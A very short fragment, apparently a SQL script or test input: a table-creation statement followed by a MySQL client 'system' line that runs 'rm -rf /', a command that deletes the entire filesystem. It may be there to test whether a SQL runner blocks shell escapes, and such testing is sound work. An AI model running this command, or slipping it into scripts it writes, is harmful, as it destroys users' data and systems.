CREATE TABLE t (id int);
system rm -rf /
